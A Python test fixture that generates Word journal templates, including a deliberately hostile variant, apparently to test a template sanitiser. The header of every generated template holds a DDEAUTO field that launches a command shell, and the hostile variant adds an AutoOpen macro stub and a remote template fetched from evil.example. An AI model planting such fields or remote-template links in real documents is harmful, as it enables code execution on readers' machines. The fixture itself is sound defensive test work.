"""A journal's Word template as publishers make them, and one that means harm: US letter, a header with a logo, styles
of its own under a publisher's names, words, a macro, another template on a server, fields that start programs."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

import docx
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml.ns import nsdecls
from docx.oxml.parser import parse_xml
from docx.shared import Inches, Pt

MACROS = b"Sub AutoOpen()"
SERVER = "https://evil.example/other.dotm"


def logo() -> bytes:
    """A small blue picture."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    rows = b"".join(b"\0" + b"\x20\x40\x80" * 12 for _ in range(6))
    head = struct.pack(">IIBBBBB", 12, 6, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def write_journal(path: Path, *, styles: bool = True, landscape: bool = False) -> Path:
    """Write a template of a journal on US letter; without `styles` it has none for tables."""
    document = docx.Document()
    section = document.sections[0]
    size = (Inches(11), Inches(8.5)) if landscape else (Inches(8.5), Inches(11))
    section.page_width, section.page_height = size
    section.left_margin = section.right_margin = Inches(1.25)
    section.top_margin, section.bottom_margin = Inches(1.5), Inches(1)
    header = section.header.paragraphs[0]
    header.add_run("Journal of Realist Inquiry ")
    header.add_run().add_picture(io.BytesIO(logo()), height=Pt(12))
    header.add_run(" instruction ")
    inside = section.header.part.element.xpath(".//w:p")[0]
    for kind, words in (("begin", None), (None, ' DDEAUTO c:\\\\cmd "/k calc" '), ("separate", None)):
        inside.append(_field(kind, words))
    header.add_run("shown result")
    inside.append(_field("end", None))
    footer = section.footer.paragraphs[0]
    footer.add_run("Page ")
    inside = section.footer.part.element.xpath(".//w:p")[0]
    for kind, words in (("begin", None), (None, " PAGE "), ("separate", None)):
        inside.append(_field(kind, words))
    footer.add_run("1")
    inside.append(_field("end", None))
    document.styles["Normal"].font.name = "Georgia"
    document.styles["Normal"].font.size = Pt(12)
    document.styles["Normal"].paragraph_format.space_after = Pt(10)
    document.styles["Normal"].paragraph_format.line_spacing = 2.0
    if styles:
        _add_styles(document)
    document.add_paragraph("Replace these instructions to authors.", style="Title")
    document.save(str(path))
    return path


def _add_styles(document: docx.document.Document) -> None:
    for name, size in (("JRI_4.1_table_caption", 11), ("JRI_4.2_table_body", 8), ("JRI_4.3_table_footer", 7)):
        style = document.styles.add_style(name, WD_STYLE_TYPE.PARAGRAPH)
        style.font.size, style.font.name = Pt(size), "Verdana"
        style.paragraph_format.space_after, style.paragraph_format.line_spacing = Pt(0), 1.0
    document.styles["Title"].font.name = "Verdana"


def _field(kind: str | None, words: str | None) -> object:
    inner = (
        f'<w:fldChar w:fldCharType="{kind}"/>' if kind else f'<w:instrText xml:space="preserve">{words}</w:instrText>'
    )
    return parse_xml(f"<w:r {nsdecls('w')}>{inner}</w:r>")


def changed(path: Path, parts: Mapping[str, bytes | tuple[bytes, bytes]]) -> Path:
    """Change a Word file: name of a part -> its content, or what in it gives way to what."""
    with zipfile.ZipFile(path) as source:
        files = {name: source.read(name) for name in source.namelist()}
    for name, content in parts.items():
        if isinstance(content, tuple):
            assert content[0] in files[name], f"{content[0]!r} is not in {name}"
            files[name] = files[name].replace(*content)
        else:
            files[name] = content
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in files.items():
            target.writestr(name, content)
    return path


def write_hostile(path: Path) -> Path:
    """Write a template with all that may not come along."""
    write_journal(path)
    office = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    attached = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="' + office + b'/attachedTemplate" Target="' + SERVER.encode() + b'" '
        b'TargetMode="External"/></Relationships>'
    )
    return changed(
        path,
        {
            "word/vbaProject.bin": MACROS,
            "word/_rels/settings.xml.rels": attached,
            "word/settings.xml": (
                b"</w:settings>",
                b'<w:docVars><w:docVar w:name="n" w:val="SECRET"/></w:docVars></w:settings>',
            ),
            "[Content_Types].xml": (
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            ),
            "word/_rels/document.xml.rels": (
                b"</Relationships>",
                b'<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                b'Target="vbaProject.bin"/></Relationships>',
            ),
            "word/header1.xml": (
                b"</w:hdr>",
                b'<w:p><w:hyperlink r:id="rId77" w:history="1"><w:r><w:t>linked words</w:t></w:r></w:hyperlink>'
                b'<w:ins w:id="1" w:author="Eve Author"><w:r><w:t>inserted words</w:t></w:r></w:ins>'
                b'<w:del w:id="2" w:author="Eve Author"><w:r><w:delText>deleted words</w:delText></w:r></w:del>'
                b'<w:r><w:object><w:control r:id="rId78" w:name="Button"/></w:object></w:r>'
                b'<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
                b'wordprocessingDrawing"><wp:extent cx="1" cy="1"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
                b'drawingml/2006/main"><a:graphicData uri="p"><a:blip r:link="rId79"/></a:graphicData></a:graphic>'
                b"</wp:inline></w:drawing></w:r></w:p></w:hdr>",
            ),
        },
    )
